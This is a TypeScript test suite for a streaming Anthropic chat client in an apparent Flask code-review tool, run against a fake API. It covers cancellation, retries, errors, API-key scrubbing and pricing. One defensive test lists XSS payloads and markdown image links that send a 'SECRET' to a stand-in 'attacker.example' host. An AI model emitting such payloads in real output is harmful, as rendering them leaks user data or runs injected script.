import assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, describe, it } from 'node:test';
import {
  AnthropicChat,
  retryAfterSeconds,
  type AnthropicChatOptions,
  type StreamResult,
} from '../../client/src/chat/anthropicChat';
import { estimateCostUsd, formatCost, parsePriceOverrides, priceFor } from '../../client/src/chat/pricing';
import { UsageSchema } from '../../client/src/chat/protocol';
import {
  errorBody,
  startFakeAnthropic,
  textEvents,
  type FakeAnthropic,
  type Reply,
} from '../helpers/fakeAnthropic';
import { TestCancellation } from './helpers';

const KEY = ['sk-ant-api03-', 'TESTKEY', 'x'.repeat(24)].join('');
const servers: FakeAnthropic[] = [];
after(async () => {
  for (const s of servers) await s.close();
});

async function fake(replies: Reply[]): Promise<FakeAnthropic> {
  const s = await startFakeAnthropic(replies);
  servers.push(s);
  return s;
}

interface Run {
  result: StreamResult;
  deltas: string[];
  logs: string[];
}

async function run(
  server: FakeAnthropic,
  options: Partial<AnthropicChatOptions> = {},
  request: { cancelAfterDeltas?: number; signal?: AbortSignal; onDelta?: () => void } = {},
): Promise<Run> {
  const logs: string[] = [];
  const chat = new AnthropicChat({
    apiKey: KEY,
    baseURL: server.baseURL,
    maxRetries: 0,
    log: (level, message) => logs.push(`${level}: ${message}`),
    ...options,
  });
  const deltas: string[] = [];
  const cancellation = new TestCancellation();
  const result = await chat.stream({
    model: 'claude-sonnet-5-5',
    maxTokens: 1024,
    system: [{ type: 'text', text: 'You review Flask code.', cache_control: { type: 'ephemeral' } }],
    messages: [{ role: 'user', content: [{ type: 'text', text: 'Is this safe?' }] }],
    cancellation,
    ...(request.signal ? { signal: request.signal } : {}),
    onText: (d) => {
      deltas.push(d);
      request.onDelta?.();
      if (request.cancelAfterDeltas !== undefined && deltas.length >= request.cancelAfterDeltas)
        cancellation.cancel();
    },
  });
  return { result, deltas, logs };
}

/** The key must never appear in a result, a message or a log line. */
function assertNoKey(run: Run): void {
  const all = JSON.stringify(run.result) + run.logs.join('\n') + run.deltas.join('');
  assert.ok(!all.includes(KEY), 'the API key leaked');
  assert.ok(!all.includes('TESTKEY'), 'part of the API key leaked');
}

describe('AnthropicChat against a fake Messages API', () => {
  it('streams deltas in order, with usage (overwritten, not added) and cost', async () => {
    const chunks = ['## Risk', ' summary\n', 'The query', ' is injectable.'];
    const server = await fake([
      {
        kind: 'stream',
        steps: textEvents(chunks, {
          inputTokens: 1500,
          outputTokens: 42,
          cacheReadTokens: 2000,
          cacheWriteTokens: 300,
        }),
      },
    ]);
    const r = await run(server);
    assert.deepEqual(r.deltas, chunks);
    assert.equal(r.result.status, 'done');
    assert.equal(r.result.text, chunks.join(''));
    assert.equal(r.result.stopReason, 'end_turn');
    assert.equal(r.result.requestId, 'req_fake_0');
    const expectedCost = estimateCostUsd('claude-sonnet-5-5', {
      inputTokens: 1500,
      outputTokens: 42,
      cacheReadTokens: 2000,
      cacheWriteTokens: 300,
    });
    assert.deepEqual(r.result.usage, {
      inputTokens: 1500,
      outputTokens: 42, // message_start says 1, message_delta says 42 (cumulative): 42, not 43
      cacheReadTokens: 2000,
      cacheWriteTokens: 300,
      costUsd: expectedCost,
    });
    assert.ok(UsageSchema.safeParse(r.result.usage).success);
    assert.equal(expectedCost, (1500 * 3 + 42 * 15 + 2000 * 0.3 + 300 * 3.75) / 1e6);

    const req = server.requests[0];
    assert.equal(req?.url, '/v1/messages');
    assert.equal(req?.headers['authorization'], `Bearer ${KEY}`);
    assert.equal(req?.headers['x-stainless-helper-method'], 'stream');
    const body = req?.body as { model: string; max_tokens: number; stream: boolean; system: unknown[] };
    assert.equal(body.model, 'claude-sonnet-5-5');
    assert.equal(body.max_tokens, 1024);
    assert.equal(body.stream, true);
    assert.deepEqual(body.system, [
      { type: 'text', text: 'You review Flask code.', cache_control: { type: 'ephemeral' } },
    ]);
    assertNoKey(r);
  });

  it('stop aborts the HTTP request itself and keeps the partial answer', async () => {
    const chunks = Array.from({ length: 40 }, (_, i) => `chunk${i} `);
    const server = await fake([{ kind: 'stream', steps: textEvents(chunks, { delayMs: 25 }) }]);
    const r = await run(server, {}, { cancelAfterDeltas: 3 });
    assert.equal(r.result.status, 'stopped');
    assert.equal(r.result.error, undefined);
    assert.equal(r.result.text, 'chunk0 chunk1 chunk2 ');
    const req = server.requests[0];
    await req?.closed;
    assert.equal(req?.aborted, true, 'the server saw the connection close before the stream ended');
  });

  it('an AbortSignal stops it the same way', async () => {
    const server = await fake([
      { kind: 'stream', steps: textEvents(['a', 'b', 'c', 'd'], { delayMs: 40 }), end: 'hang' },
    ]);
    const ac = new AbortController();
    const r = await run(server, {}, { signal: ac.signal, onDelta: () => ac.abort() });
    assert.equal(r.result.status, 'stopped');
    assert.equal(r.result.text, 'a');
    await server.requests[0]?.closed;
    assert.equal(server.requests[0]?.aborted, true);
  });

  it('does not send anything when already cancelled', async () => {
    const server = await fake([{ kind: 'stream', steps: textEvents(['x']) }]);
    const ac = new AbortController();
    ac.abort();
    const r = await run(server, {}, { signal: ac.signal });
    assert.equal(r.result.status, 'stopped');
    assert.equal(server.requests.length, 0);
  });

  it('retries a 529 before the stream starts (maxRetries 1)', async () => {
    const server = await fake([
      {
        kind: 'error',
        status: 529,
        headers: { 'retry-after-ms': '20' },
        body: errorBody('overloaded_error', 'Overloaded'),
      },
      { kind: 'stream', steps: textEvents(['after retry']) },
    ]);
    const r = await run(server, { maxRetries: 1 });
    assert.equal(r.result.status, 'done');
    assert.equal(r.result.text, 'after retry');
    assert.equal(server.requests.length, 2);
    assert.equal(server.requests[1]?.headers['x-stainless-retry-count'], '1');
  });

  it('529 without retries left: overloaded, retryable', async () => {
    const server = await fake([
      { kind: 'error', status: 529, body: errorBody('overloaded_error', 'Overloaded') },
    ]);
    const r = await run(server);
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.error?.kind, 'overloaded');
    assert.equal(r.result.error?.retryable, true);
    assert.match(r.result.error?.message ?? '', /overloaded \(529\)/);
  });

  it('429 with retry-after and x-should-retry:false says when to retry, without retrying', async () => {
    const server = await fake([
      {
        kind: 'error',
        status: 429,
        headers: { 'retry-after': '17', 'x-should-retry': 'false' },
        body: errorBody(
          'rate_limit_error',
          'Number of request tokens has exceeded your per-minute rate limit',
        ),
      },
    ]);
    const r = await run(server, { maxRetries: 2 });
    assert.equal(server.requests.length, 1, 'x-should-retry: false stops the SDK retrying');
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.error?.kind, 'rate-limit');
    assert.equal(r.result.error?.retryAfterSec, 17);
    assert.equal(r.result.error?.retryable, true);
    assert.match(r.result.error?.message ?? '', /Rate limited .*\(429\)\. Retry in 17 s\./);
  });

  it('an error event mid-stream keeps the partial answer and offers retry', async () => {
    const server = await fake([
      { kind: 'stream', steps: textEvents(['The route ', 'is missing ', 'auth'], { errorAfter: 2 }) },
    ]);
    const r = await run(server);
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.text, 'The route is missing ');
    assert.equal(r.result.error?.kind, 'overloaded');
    assert.equal(r.result.error?.retryable, true);
    assert.match(r.result.error?.message ?? '', /middle of the answer\. The partial answer is kept\. Retry/);
    assert.ok(r.result.usage, 'usage so far is reported');
  });

  it('401 says to set the key, and the key appears nowhere', async () => {
    const server = await fake([
      { kind: 'error', status: 401, body: errorBody('authentication_error', `invalid x-api-key ${KEY}`) },
    ]);
    const r = await run(server);
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.error?.kind, 'auth');
    assert.equal(r.result.error?.retryable, false);
    assert.match(r.result.error?.message ?? '', /Flask Sentinel: Set Anthropic API Key/);
    assertNoKey(r);
  });

  it('403 and 404 name the problem; an echoed key is scrubbed', async () => {
    const s403 = await fake([
      {
        kind: 'error',
        status: 403,
        body: errorBody('permission_error', `key ${KEY} may not use this model`),
      },
    ]);
    const r403 = await run(s403);
    assert.equal(r403.result.error?.kind, 'permission');
    assert.match(r403.result.error?.message ?? '', /not allowed.*\(403: key \*\*\* may not use this model\)/);
    assertNoKey(r403);
    const s404 = await fake([
      { kind: 'error', status: 404, body: errorBody('not_found_error', 'model: claude-sonnet-5-5') },
    ]);
    const r404 = await run(s404);
    assert.equal(r404.result.error?.kind, 'not-found');
    assert.match(r404.result.error?.message ?? '', /Model “claude-sonnet-5-5” was not found \(404/);
    assert.equal(r404.result.error?.retryable, false);
  });

  it('a stream that ends without message_stop is reported as cut off, partial kept', async () => {
    const server = await fake([
      { kind: 'stream', steps: textEvents(['partial ', 'answer'], { truncate: true }) },
    ]);
    const r = await run(server);
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.error?.kind, 'truncated');
    assert.equal(r.result.text, 'partial answer');
    assert.equal(r.result.error?.retryable, true);
  });

  it('a dropped connection keeps the partial answer', async () => {
    const server = await fake([
      {
        kind: 'stream',
        steps: [...textEvents(['one ', 'two '], { truncate: true }), { destroy: true, delayMs: 20 }],
      },
    ]);
    const r = await run(server);
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.error?.kind, 'connection');
    assert.equal(r.result.text, 'one two ');
    assert.equal(r.result.error?.retryable, true);
  });

  it('a stalled stream is stopped by the idle timeout, partial kept', async () => {
    const server = await fake([
      { kind: 'stream', steps: textEvents(['slow '], { truncate: true }), end: 'hang' },
    ]);
    const r = await run(server, { idleTimeoutMs: 150 });
    assert.equal(r.result.status, 'error');
    assert.equal(r.result.error?.kind, 'stalled');
    assert.equal(r.result.text, 'slow ');
    await server.requests[0]?.closed;
    assert.equal(server.requests[0]?.aborted, true);
  });

  it('no response before the timeout: timed out, retryable', async () => {
    const server = await fake([{ kind: 'hang' }]);
    const r = await run(server, { timeoutMs: 150 });
    assert.equal(r.result.error?.kind, 'timeout');
    assert.match(r.result.error?.message ?? '', /timed out/);
    assert.equal(r.result.error?.retryable, true);
  });

  it('an unreachable server is a connection error that names the host, not the key', async () => {
    const closed = http.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const { port } = closed.address() as AddressInfo;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const logs: string[] = [];
    const chat = new AnthropicChat({
      apiKey: KEY,
      baseURL: `http://127.0.0.1:${port}`,
      maxRetries: 0,
      log: (_l, m) => logs.push(m),
    });
    const result = await chat.stream({
      model: 'm',
      maxTokens: 10,
      system: [],
      messages: [{ role: 'user', content: 'x' }],
    });
    assert.equal(result.error?.kind, 'connection');
    assert.match(
      result.error?.message ?? '',
      new RegExp(`Could not reach the Anthropic API at 127\\.0\\.0\\.1:${port}`),
    );
    assertNoKey({ result, logs, deltas: [] });
  });

  it('refusal and max_tokens are reported as such', async () => {
    const refusal = await fake([
      {
        kind: 'stream',
        steps: textEvents(['I can'], {
          stopReason: 'refusal',
          stopDetails: { type: 'refusal', category: 'cyber', explanation: null },
        }),
      },
    ]);
    const r1 = await run(refusal);
    assert.equal(r1.result.status, 'refusal');
    assert.equal(r1.result.text, 'I can');
    assert.match(r1.result.error?.message ?? '', /declined to answer \(category: cyber\)/);
    const cut = await fake([
      { kind: 'stream', steps: textEvents(['long ', 'answer'], { stopReason: 'max_tokens' }) },
    ]);
    const r2 = await run(cut);
    assert.equal(r2.result.status, 'max_tokens');
    assert.equal(r2.result.text, 'long answer');
    assert.match(r2.result.error?.message ?? '', /limit of 1024 output tokens/);
  });

  it('passes XSS and exfiltration payloads through as plain text', async () => {
    const payloads = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '[click](javascript:alert(1))',
      '![x](https://attacker.example/leak?d=SECRET)',
      '<svg onload=alert(1)>',
      '<img src="https://attacker.example/p.png">',
    ];
    const server = await fake([{ kind: 'stream', steps: textEvents(payloads) }]);
    const r = await run(server);
    assert.deepEqual(r.deltas, payloads);
    assert.equal(r.result.text, payloads.join(''));
  });

  it('ignores ANTHROPIC_* environment variables: explicit key and base URL, no env headers', async () => {
    const server = await fake([{ kind: 'stream', steps: textEvents(['ok']) }]);
    const saved = { ...process.env };
    process.env['ANTHROPIC_BASE_URL'] = 'http://127.0.0.1:9';
    process.env['ANTHROPIC_API_KEY'] = 'env-key-should-not-be-used';
    process.env['ANTHROPIC_AUTH_TOKEN'] = 'env-token-should-not-be-used';
    process.env['ANTHROPIC_CUSTOM_HEADERS'] = 'X-Exfil: 1\nX-Other: 2';
    try {
      const r = await run(server);
      assert.equal(r.result.status, 'done');
      const headers = server.requests[0]?.headers ?? {};
      assert.equal(headers['authorization'], `Bearer ${KEY}`);
      assert.equal(headers['x-exfil'], undefined);
      assert.equal(headers['x-other'], undefined);
      assert.equal(headers['x-api-key'], undefined);
    } finally {
      for (const k of Object.keys(process.env)) if (!(k in saved)) delete process.env[k];
      Object.assign(process.env, saved);
    }
  });

  it('requires an explicit base URL', () => {
    assert.throws(() => new AnthropicChat({ apiKey: KEY, baseURL: '' }), /baseURL must be given explicitly/);
  });
});

describe('pricing and retry-after', () => {
  it('prices known models, families and overrides; unknown models have no cost', () => {
    assert.deepEqual(priceFor('claude-opus-5-5'), { input: 5, output: 25, cacheWrite: 6.25, cacheRead: 0.5 });
    assert.deepEqual(priceFor('claude-haiku-4-5-20251001'), priceFor('claude-haiku-4-5'));
    assert.deepEqual(priceFor('claude-sonnet-7'), priceFor('claude-sonnet-5-5'));
    assert.equal(priceFor('gpt-4o'), undefined);
    const { table, errors } = parsePriceOverrides({
      'claude-sonnet-5-5': { input: 1, output: 2, cacheWrite: 3, cacheRead: 4 },
      bad: { input: -1 },
    });
    assert.equal(errors.length, 1);
    assert.equal(
      estimateCostUsd(
        'claude-sonnet-5-5',
        { inputTokens: 1e6, outputTokens: 1e6, cacheReadTokens: 1e6, cacheWriteTokens: 1e6 },
        table,
      ),
      10,
    );
    assert.equal(
      estimateCostUsd('gpt-4o', { inputTokens: 1, outputTokens: 1, cacheReadTokens: 0, cacheWriteTokens: 0 }),
      undefined,
    );
    assert.equal(formatCost(0.01234), '$0.0123 (estimate)');
    assert.equal(formatCost(undefined), 'cost unknown');
  });

  it('reads retry-after-ms, retry-after seconds and HTTP dates', () => {
    assert.equal(retryAfterSeconds(new Headers({ 'retry-after': '30' })), 30);
    assert.equal(retryAfterSeconds(new Headers({ 'retry-after-ms': '1500' })), 2);
    const now = Date.UTC(2026, 0, 1, 0, 0, 0);
    assert.equal(
      retryAfterSeconds(new Headers({ 'retry-after': new Date(now + 45_000).toUTCString() }), now),
      45,
    );
    assert.equal(retryAfterSeconds(new Headers({})), undefined);
  });
});
